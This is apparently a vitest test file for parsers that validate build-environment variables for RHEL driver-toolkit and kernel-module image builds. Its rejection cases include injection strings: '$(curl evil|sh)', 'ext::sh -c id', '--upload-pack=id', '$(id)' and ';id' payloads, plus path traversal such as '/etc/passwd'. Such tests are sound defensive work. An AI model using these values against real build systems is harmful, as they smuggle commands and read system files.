import { describe, expect, it } from 'vitest';
import { parseBuildKernel } from '#core/builds/build-kernel.ts';
import {
  BuildEnvError,
  buildEnvKeys,
  parseBuildEnv,
  parseDriverBuildEnv,
  parseDtkBuildEnv,
  parseJoinEnv,
  validateRhsmSecrets,
} from '#core/builds/params.ts';
import { MALICIOUS_KERNELS, MALICIOUS_TEMPLATES } from '../support/malicious-values.ts';

const DIGEST = `sha256:${'a'.repeat(64)}`;

const dtkEnv = (over: Record<string, string | undefined> = {}) => ({
  KERNEL: '5.14.0-427.68.1.el9_4.x86_64',
  ARCH: 'x86_64',
  RHEL_VERSION: '9.4',
  UBI_IMAGE: `registry.access.redhat.com/ubi9/ubi@${DIGEST}`,
  TARGET_IMAGE: 'quay.io/org/driver-toolkit',
  RHSM_ORG_FILE: '/tmp/secrets/rhsm_org',
  RHSM_KEY_FILE: '/tmp/secrets/rhsm_key',
  ...over,
});

const driverEnv = (over: Record<string, string | undefined> = {}) => ({
  KERNEL: '5.14.0-427.68.1.el9_4.x86_64',
  ARCH: 'x86_64',
  DRIVER_NAME: 'example',
  MOD_NAME: 'dtk_example',
  DRIVER_SOURCE: 'inline',
  DRIVER_CONTEXT_DIR: 'images/driver-example',
  DTK_IMAGE: 'quay.io/org/driver-toolkit:5.14.0-427.68.1.el9_4.x86_64',
  TARGET_IMAGE: 'quay.io/partner/example',
  ...over,
});

function errorOf(fn: () => unknown): BuildEnvError {
  try {
    fn();
  } catch (err) {
    if (err instanceof BuildEnvError) return err;
    throw err;
  }
  throw new Error('expected a BuildEnvError');
}

describe('DTK build environment', () => {
  it('accepts a complete environment and applies the defaults', () => {
    const p = parseDtkBuildEnv(dtkEnv(), { machineArch: 'x86_64' });
    expect(p.kernel.full).toBe('5.14.0-427.68.1.el9_4.x86_64');
    expect(p.rhel).toEqual({ major: 9, minor: 4 });
    expect(p.ubiImage.digest).toBe(DIGEST);
    expect(p.target).toEqual({ registry: 'quay.io', repository: 'org/driver-toolkit' });
    expect(p.rebuild).toBe(false);
    expect(p.resultFile).toBe('build-result.env');
    expect(p.storageDriver).toBe('vfs');
  });

  it('treats empty strings as unset (CodeBuild overrides cannot unset)', () => {
    expect(parseDtkBuildEnv(dtkEnv({ REBUILD: '', SOURCE_URL: '' })).rebuild).toBe(false);
  });

  it('accepts RHEL_VERSION=9 for a kernel without a minor', () => {
    expect(parseDtkBuildEnv(dtkEnv({ KERNEL: '5.14.0-252.el9.x86_64', RHEL_VERSION: '9' })).rhel).toEqual({ major: 9 });
  });

  it.each([
    ['UBI_IMAGE', { UBI_IMAGE: 'registry.access.redhat.com/ubi9/ubi:latest' }, /pinned by digest/],
    ['UBI_IMAGE', { UBI_IMAGE: `registry.access.redhat.com/ubi8/ubi@${DIGEST}` }, /not a ubi9 image/],
    ['RHEL_VERSION', { RHEL_VERSION: '9.6' }, /does not match KERNEL/],
    ['RHEL_VERSION', { RHEL_VERSION: '9.4;id' }, /not a RHEL version/],
    ['KERNEL', { KERNEL: '5.14.0-427.68.1.el9_4.x86_64+rt' }, /base kernel/],
    ['KERNEL', { KERNEL: '6.1.0-50-amd64', ALLOW_TEST_KERNELS: 'true' }, /RHEL kernels only/],
    ['ARCH', { ARCH: 'aarch64' }, /does not match the arch of KERNEL/],
    ['RHSM_ORG_FILE', { RHSM_ORG_FILE: 'relative/org' }, /absolute path/],
    ['RHSM_KEY_FILE', { RHSM_KEY_FILE: undefined }, /required/],
    ['TARGET_IMAGE', { TARGET_IMAGE: 'quay.io/org/driver-toolkit:tag' }, /must not carry a tag/],
    ['TARGET_IMAGE', { TARGET_IMAGE: 'org/driver-toolkit' }, /registry host explicitly/],
    ['SOURCE_URL', { SOURCE_URL: 'http://example.com/x' }, /not an https URL/],
    ['SOURCE_REVISION', { SOURCE_REVISION: 'main' }, /not a git commit/],
    ['REBUILD', { REBUILD: 'yes' }, /"true" or "false"/],
    ['RT_KERNEL', { ARCH: 'aarch64', KERNEL: '5.14.0-427.68.1.el9_4.aarch64', RT_KERNEL: '5.14.0-427.68.1.el9_4.x86_64+rt' }, /x86_64 builds only/],
    ['RT_KERNEL', { RT_KERNEL: '$(curl evil|sh)' }, /RT_KERNEL .* is not a real-time kernel version/],
    ['RT_KERNEL', { RT_KERNEL: '5.14.0-427.68.1.el9_4.x86_64' }, /is not a real-time kernel version/],
  ])('names %s when it is wrong', (variable, over, message) => {
    const err = errorOf(() => parseDtkBuildEnv(dtkEnv(over)));
    expect(err.variable).toBe(variable);
    expect(err.message).toMatch(message);
    expect(err.message).not.toContain('\n');
  });

  it('refuses a build for another arch than the machine unless ALLOW_CROSS_ARCH=true', () => {
    const env = dtkEnv({ KERNEL: '5.14.0-427.68.1.el9_4.aarch64', ARCH: 'aarch64' });
    expect(errorOf(() => parseDtkBuildEnv(env, { machineArch: 'x86_64' })).message).toMatch(/not this machine's arch/);
    expect(parseDtkBuildEnv({ ...env, ALLOW_CROSS_ARCH: 'true' }, { machineArch: 'x86_64' }).arch).toBe('aarch64');
  });
});

describe('driver build environment', () => {
  it('accepts the bundled example and applies the defaults', () => {
    const p = parseDriverBuildEnv(driverEnv());
    expect(p.tagTemplate).toBe('${KERNEL_FULL_VERSION}');
    expect(p.buildArgs).toEqual({});
    expect(p.contextDir).toBe('images/driver-example');
  });

  it('accepts a git source with a ref and extra build args', () => {
    const p = parseDriverBuildEnv(
      driverEnv({
        DRIVER_SOURCE: 'https://github.com/partner/driver.git',
        DRIVER_REF: 'v1.2.3',
        DRIVER_CONTEXT_DIR: 'build/kmod',
        BUILD_ARGS_JSON: '{"DRIVER_VERSION":"1.2.3","FINAL_BASE":"registry.access.redhat.com/ubi9/ubi-minimal:9.6"}',
        TAG_TEMPLATE: '${MOD_NAME}-${KERNEL_FULL_VERSION}',
      }),
    );
    expect(p.source).toBe('https://github.com/partner/driver.git');
    expect(p.buildArgs['DRIVER_VERSION']).toBe('1.2.3');
  });

  it('accepts a Debian test kernel only with ALLOW_TEST_KERNELS=true', () => {
    const env = driverEnv({ KERNEL: '6.1.0-50-amd64' });
    const err = errorOf(() => parseDriverBuildEnv(env));
    expect(err.variable).toBe('KERNEL');
    expect(err.message).toMatch(/is not a RHEL kernel/);
    expect(parseDriverBuildEnv({ ...env, ALLOW_TEST_KERNELS: 'true' }).kernel.test).toBe(true);
  });

  it.each(MALICIOUS_KERNELS)('rejects the kernel %j, in production and in test mode', (kernel) => {
    expect(errorOf(() => parseDriverBuildEnv(driverEnv({ KERNEL: kernel }))).variable).toBe('KERNEL');
    expect(errorOf(() => parseDriverBuildEnv(driverEnv({ KERNEL: kernel, ALLOW_TEST_KERNELS: 'true' }))).variable).toBe('KERNEL');
    expect(errorOf(() => parseDtkBuildEnv(dtkEnv({ KERNEL: kernel }))).variable).toBe('KERNEL');
  });

  it.each(MALICIOUS_TEMPLATES)('rejects the tag template %j', (template) => {
    const err = errorOf(() => parseDriverBuildEnv(driverEnv({ TAG_TEMPLATE: template })));
    expect(err.variable).toBe('TAG_TEMPLATE');
    expect(err.message).not.toContain('\n');
  });

  it.each([
    ['DRIVER_NAME', { DRIVER_NAME: 'Example' }],
    ['DRIVER_NAME', { DRIVER_NAME: '-x' }],
    ['MOD_NAME', { MOD_NAME: 'mod;id' }],
    ['DRIVER_SOURCE', { DRIVER_SOURCE: 'http://github.com/p/d.git' }],
    ['DRIVER_SOURCE', { DRIVER_SOURCE: 'https://user:token@github.com/p/d.git' }],
    ['DRIVER_SOURCE', { DRIVER_SOURCE: 'https://github.com/p/../d.git' }],
    ['DRIVER_SOURCE', { DRIVER_SOURCE: 'ext::sh -c id' }],
    ['DRIVER_REF', { DRIVER_SOURCE: 'https://github.com/p/d.git' }],
    ['DRIVER_REF', { DRIVER_SOURCE: 'https://github.com/p/d.git', DRIVER_REF: '--upload-pack=id' }],
    ['DRIVER_REF', { DRIVER_SOURCE: 'https://github.com/p/d.git', DRIVER_REF: 'a..b' }],
    ['DRIVER_CONTEXT_DIR', { DRIVER_CONTEXT_DIR: undefined }],
    ['DRIVER_CONTEXT_DIR', { DRIVER_CONTEXT_DIR: 'images/../..' }],
    ['DRIVER_CONTEXT_DIR', { DRIVER_SOURCE: 'https://github.com/p/d.git', DRIVER_REF: 'main', DRIVER_CONTEXT_DIR: '/etc' }],
    ['DRIVER_CONTAINERFILE', { DRIVER_CONTAINERFILE: '/etc/passwd' }],
    ['DTK_IMAGE', { DTK_IMAGE: 'quay.io/org/driver-toolkit' }],
    ['DTK_IMAGE', { DTK_IMAGE: 'quay.io/org/dtk:$(id)' }],
    ['BUILD_ARGS_JSON', { BUILD_ARGS_JSON: '[1]' }],
    ['BUILD_ARGS_JSON', { BUILD_ARGS_JSON: '{"A":"$(id)"}' }],
    ['BUILD_ARGS_JSON', { BUILD_ARGS_JSON: '{"A":"a b"}' }],
    ['BUILD_ARGS_JSON', { BUILD_ARGS_JSON: '{"A;B":"x"}' }],
    ['BUILD_ARGS_JSON', { BUILD_ARGS_JSON: '{"A":1}' }],
    ['BUILD_ARGS_JSON', { BUILD_ARGS_JSON: '{"KERNEL_FULL_VERSION":"x"}' }],
    ['BUILD_ARGS_JSON', { BUILD_ARGS_JSON: 'not json' }],
  ])('names %s when it is wrong (%j)', (variable, over) => {
    expect(errorOf(() => parseDriverBuildEnv(driverEnv(over))).variable).toBe(variable);
  });
});

describe('join environment', () => {
  it('parses the per-arch tags', () => {
    const p = parseJoinEnv({
      TARGET_IMAGE: 'quay.io/org/driver-toolkit',
      TARGET_TAG: '5.14.0-427.68.1.el9_4',
      ARCH_TAGS: 'x86_64=5.14.0-427.68.1.el9_4.x86_64,aarch64=5.14.0-427.68.1.el9_4.aarch64',
    });
    expect(p.archTags).toEqual({ x86_64: '5.14.0-427.68.1.el9_4.x86_64', aarch64: '5.14.0-427.68.1.el9_4.aarch64' });
  });

  it.each([
    ['TARGET_TAG', { TARGET_TAG: '../x' }],
    ['TARGET_TAG', { TARGET_TAG: 'x;id' }],
    ['ARCH_TAGS', { ARCH_TAGS: 'x86_64=a b' }],
    ['ARCH_TAGS', { ARCH_TAGS: 's390x=a' }],
    ['ARCH_TAGS', { ARCH_TAGS: 'x86_64=a,x86_64=b' }],
  ])('names %s when it is wrong (%j)', (variable, over) => {
    const env = { TARGET_IMAGE: 'quay.io/org/dtk', TARGET_TAG: 't', ARCH_TAGS: 'x86_64=a', ...over };
    expect(errorOf(() => parseJoinEnv(env)).variable).toBe(variable);
  });
});

describe('shared rules', () => {
  it('lists the variables each kind reads', () => {
    expect(buildEnvKeys('join')).toEqual(['TARGET_IMAGE', 'TARGET_TAG', 'ARCH_TAGS', 'REGISTRY_AUTH_FILE', 'RESULT_FILE']);
    expect(buildEnvKeys('driver')).toContain('BUILD_ARGS_JSON');
  });

  it('dispatches by kind', () => {
    expect(parseBuildEnv('driver', driverEnv()).kind).toBe('driver');
  });

  it('never puts the RHSM values into its messages', () => {
    const secret = 'Sup3r secret key!';
    for (const fn of [() => validateRhsmSecrets(secret, 'key'), () => validateRhsmSecrets('123', secret)]) {
      const err = errorOf(fn);
      expect(err.message).not.toContain(secret);
    }
    expect(validateRhsmSecrets('1234567\n', 'my-key_1.0\n')).toEqual({ org: '1234567', key: 'my-key_1.0' });
  });

  it('parses RHEL and test kernels', () => {
    expect(parseBuildKernel('6.1.0-50-cloud-amd64', { allowTestKernels: true })).toMatchObject({ arch: 'x86_64', withoutArch: '6.1.0-50', x: 6 });
    expect(parseBuildKernel('6.1.0-50-arm64', { allowTestKernels: true }).arch).toBe('aarch64');
    expect(() => parseBuildKernel('6.1.0-50-amd64')).toThrow(/not a RHEL kernel/);
  });
});
